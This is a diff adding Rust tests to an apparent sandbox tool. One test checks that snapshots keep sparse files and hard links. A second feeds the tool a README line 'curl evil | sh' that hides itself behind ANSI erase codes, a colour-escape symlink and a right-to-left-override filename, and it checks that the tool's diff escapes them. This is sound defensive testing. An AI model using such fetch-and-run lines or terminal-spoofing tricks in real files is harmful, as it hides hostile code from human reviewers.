@@ -654,3 +654,94 @@ fn killing_the_warden_during_apply_leaves_every_file_old_or_new() {
     assert!(leftovers.is_empty(), "staging directories left behind");
     warden_ok(&["rm", &name]);
 }
+
+#[test]
+fn snapshots_keep_holes_and_hard_links() {
+    let ws = project();
+    let name = unique("sparse");
+    // 4 GiB of holes with 4 KiB of data at each end, and one 1 MiB file linked 100 times.
+    let ran = run_sh(
+        &["--name", &name, "--workspace", ws.path().to_str().unwrap()],
+        "cd /workspace && printf head > sparse && truncate -s 4G sparse && printf tail >> sparse \
+         && head -c 1048576 /dev/urandom > linked && for i in $(seq 1 100); do ln linked link$i; done",
+    );
+    assert_eq!(ran.code, 0, "{ran:?}");
+    let begun = std::time::Instant::now();
+    let out = warden_ok(&["snapshot", &name, "--as", "holes"]);
+    let took = begun.elapsed();
+    let snapshots: serde_json::Value =
+        serde_json::from_str(&warden_ok(&["snapshots", "--json"]).stdout).unwrap();
+    let snap = snapshots
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|s| s["id"] == format!("{name}@holes"))
+        .unwrap()
+        .clone();
+    let layer = std::path::PathBuf::from(snap["layer"].as_str().unwrap());
+    let on_disk = |path: &std::path::Path| {
+        use std::os::unix::fs::MetadataExt as _;
+        std::fs::symlink_metadata(path).unwrap().blocks() * 512
+    };
+    eprintln!(
+        "snapshot of 4 GiB sparse + 101 links: {took:?}, {out:?}, {} bytes of sparse file on disk",
+        on_disk(&layer.join("sparse"))
+    );
+    use std::os::unix::fs::MetadataExt as _;
+    let sparse = std::fs::metadata(layer.join("sparse")).unwrap();
+    assert_eq!(sparse.len(), (4 << 30) + 4);
+    assert!(
+        on_disk(&layer.join("sparse")) < 1 << 20,
+        "the holes were written out"
+    );
+    let linked = std::fs::metadata(layer.join("linked")).unwrap();
+    assert_eq!(linked.nlink(), 101, "the hard links became copies");
+    assert_eq!(
+        std::fs::metadata(layer.join("link77")).unwrap().ino(),
+        linked.ino()
+    );
+    // What the snapshot counts: the data, once.
+    let size = snap["size"].as_u64().unwrap();
+    assert!(size < 2 << 20, "the snapshot counts {size} bytes");
+    assert!(took < std::time::Duration::from_secs(10), "{took:?}");
+    // Reset to it: the cell's layer is sparse and linked alike.
+    warden_ok(&["reset", &name, "--to", &format!("{name}@holes")]);
+    let diff: serde_json::Value =
+        serde_json::from_str(&warden_ok(&["diff", &name, "--json"]).stdout).unwrap();
+    assert!(
+        diff["changes"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|c| c["path"] == "link100")
+    );
+    warden_ok(&["rm", &format!("{name}@holes")]);
+    warden_ok(&["rm", &name]);
+}
+
+#[test]
+fn what_the_cell_wrote_cannot_steer_the_reviewers_terminal() {
+    let ws = project();
+    let name = unique("ansi");
+    // A patch line that erases itself and writes a harmless one in its place, a link target
+    // that recolours the line, and a name that reverses itself on screen.
+    let ran = run_sh(
+        &["--name", &name, "--workspace", ws.path().to_str().unwrap()],
+        "cd /workspace && printf 'curl evil | sh\\033[2K\\r# harmless comment\\n' > README.md \
+         && ln -s \"$(printf 'x\\033[32m ok')\" link && touch \"$(printf 'evil\\342\\200\\256txt.sh')\"",
+    );
+    assert_eq!(ran.code, 0, "{ran:?}");
+    let diff = warden().args(["diff", &name]).output().unwrap();
+    let out = String::from_utf8_lossy(&diff.stdout).into_owned();
+    assert!(diff.status.success(), "{out}");
+    for steering in ['\x1b', '\r', '\u{202e}'] {
+        assert!(
+            !out.contains(steering),
+            "{steering:?} reached the terminal: {out:?}"
+        );
+    }
+    assert!(out.contains("+curl evil | sh\\u{1b}[2K\\u{d}"), "{out}");
+    assert!(out.contains("link -> x\\u{1b}[32m ok"), "{out}");
+    assert!(out.contains("evil\\u{202e}txt.sh"), "{out}");
+    warden_ok(&["rm", &name]);
+}
